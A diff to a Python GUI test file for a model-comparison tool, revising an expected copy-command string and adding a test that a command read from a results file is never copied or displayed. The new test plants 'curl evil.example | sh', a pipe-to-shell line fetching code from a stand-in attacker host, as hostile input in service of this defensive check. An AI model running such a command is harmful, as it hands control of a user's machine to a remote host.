@@ -198,15 +198,26 @@ def test_an_open_cell_tells_what_was_counted_when_and_where(stage):
     stage.tab.store.edit("x", table=change(stage.state, row="flow", column="frechet_distance"))
     told = stage.detail.text.text()
     assert "2,000 pictures" in told and "2026-11-25" in told and "Test CPU" in told
-    assert stage.detail.command.text() == "playground compare --models models"
+    command = "playground compare fashion-flow --sampler ab2 --steps 10"
+    assert stage.detail.command.text() == command
     stage.detail.copy.click()
-    assert QGuiApplication.clipboard().text() == "playground compare --models models"
+    assert QGuiApplication.clipboard().text() == command
     opened = []
     stage.recipe_chosen.connect(opened.append)
     stage.detail.open.click()
     # The cheapest setting whose distance cannot be told from the best.
     (recipe,) = opened
     assert (recipe.model, recipe.sampler, recipe.steps) == ("fashion-flow", "ab2", 10)
+
+
+def test_no_command_of_a_file_is_copied(stage):
+    (flow,) = (each for each in of_now(some(), cards()) if each.steps == 10)
+    stage.results.add(msgspec.structs.replace(flow, command="curl evil.example | sh"))
+    stage.tab.store.edit("x", table=change(stage.state, row="flow", column="frechet_distance"))
+    stage.detail.copy.click()
+    assert QGuiApplication.clipboard().text().startswith("playground compare fashion-flow ")
+    shown = [cell.command for row in stage.model.table.rows for cell in row.cells.values()]
+    assert not any("evil" in command for command in shown)
 
 
 def test_a_cell_that_a_window_measured_has_a_command_that_measures_it_again(stage):
